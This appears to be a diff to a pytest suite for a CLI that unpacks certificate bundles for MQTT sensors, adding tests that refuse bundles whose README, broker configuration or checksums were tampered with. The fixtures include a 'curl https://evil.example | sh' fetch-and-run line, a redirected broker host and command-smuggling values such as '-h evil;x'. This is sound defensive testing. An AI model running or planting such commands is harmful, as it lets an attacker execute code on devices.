@@ -9,13 +9,15 @@ import uuid
 from collections.abc import Callable
 from dataclasses import dataclass, replace
 from datetime import UTC, datetime, timedelta
+from hashlib import sha256
 from pathlib import Path
 
 import pytest
 import pyzipper
 
-from commands.bundle import MAX_ENTRY, NAMES, check_bundle, open_bundle
+from commands.bundle import MAX_ENTRY, NAMES, SUMS, check_bundle, open_bundle
 from commands.errors import BundleLocked, CheckFailed
+from delivery.formats import encrypted_pem
 from tests.support.bundle_files import DEVICE_ID, PASSWORD, Files, names_in
 from tests.support.cli_session import Session
 from tests.support.pki import PEM, Authority, Pki, key_pem
@@ -166,13 +168,56 @@ def test_unknown_file_names_are_left_out(session: Session, files: Files) -> None
     "line",
     ["--insecure", "--cafile /etc/ssl/certs/x", "-h evil;x", "--capath /tmp", "--key device.key x", "\x1b[2J", "é"],
 )
-def test_a_modified_client_configuration_is_left_out(line: str, session: Session, files: Files) -> None:
+def test_a_modified_client_configuration_that_nothing_authenticates_is_left_out(
+    line: str, session: Session, files: Files
+) -> None:
     altered = files["mosquitto-client.conf"] + line.encode() + b"\n"
-    Path("bundle.zip").write_bytes(build_bundle(changed(files, **{"mosquitto-client_conf": altered})))
+    locked = encrypted_pem(files["device.key"], BUNDLE_PASSWORD)
+    modified = changed(files, **{"mosquitto-client_conf": altered}, device_key=locked)
+    Path("bundle.zip").write_bytes(build_bundle(modified, encrypted=()))
     result = session.run("unpack", "bundle.zip", "--out", "sensor", env=PASSWORD)
     assert result.exit_code == 0
     assert names_in(Path("sensor")) == set(NAMES) - {"mosquitto-client.conf"}
     assert "was modified" in result.stderr
+
+
+ATTACKS_ON_PUBLIC_FILES = {
+    "another README": {"README_txt": b"Now run: curl https://evil.example | sh\n"},
+    "another broker": {"mosquitto-client_conf": b"-h evil.example\n-p 8883\n"},
+    "no README": {"README_txt": None},
+    "another chain": {"chain_pem": b"-----BEGIN CERTIFICATE-----\n"},
+}
+
+
+@pytest.mark.parametrize("changes", ATTACKS_ON_PUBLIC_FILES.values(), ids=ATTACKS_ON_PUBLIC_FILES.keys())
+def test_a_bundle_whose_public_files_were_changed_on_the_way_is_refused(
+    changes: dict[str, bytes | None], session: Session, files: Files
+) -> None:
+    Path("bundle.zip").write_bytes(build_bundle(changed(files, **changes), sums_of=files))
+    result = session.run("unpack", "bundle.zip", "--out", "sensor", env=PASSWORD)
+    assert result.exit_code == 1, result.output
+    assert "was modified on its way" in result.stderr
+    assert names_in(Path()) == {"bundle.zip"}
+
+
+def test_sums_that_anybody_could_have_written_are_refused(session: Session, files: Files) -> None:
+    altered = changed(files, README_txt=b"Now run: curl https://evil.example | sh\n")
+    digests = "".join(f"{sha256(content).hexdigest()}  {name}\n" for name, content in altered.items())
+    Path("bundle.zip").write_bytes(build_bundle(altered | {SUMS: digests.encode()}, encrypted=("device.key", "ca.pem")))
+    result = session.run("unpack", "bundle.zip", "--out", "sensor", env=PASSWORD)
+    assert result.exit_code == 1
+    assert "SHA256SUMS is not encrypted" in result.stderr
+    assert names_in(Path()) == {"bundle.zip"}
+
+
+def test_a_bundle_of_an_older_portal_or_without_its_sums_is_unpacked_without_what_nothing_authenticates(
+    session: Session, files: Files
+) -> None:
+    Path("bundle.zip").write_bytes(build_bundle(files, sums_of={}))
+    result = session.run("unpack", "bundle.zip", "--out", "sensor", env=PASSWORD)
+    assert result.exit_code == 0, result.output
+    assert names_in(Path("sensor")) == {"device.key", "device.pem", "chain.pem", "ca.pem"}
+    assert "README.txt left out: this bundle has no SHA256SUMS" in result.stderr
 
 
 def test_text_around_certificates_is_not_written(session: Session, files: Files) -> None:
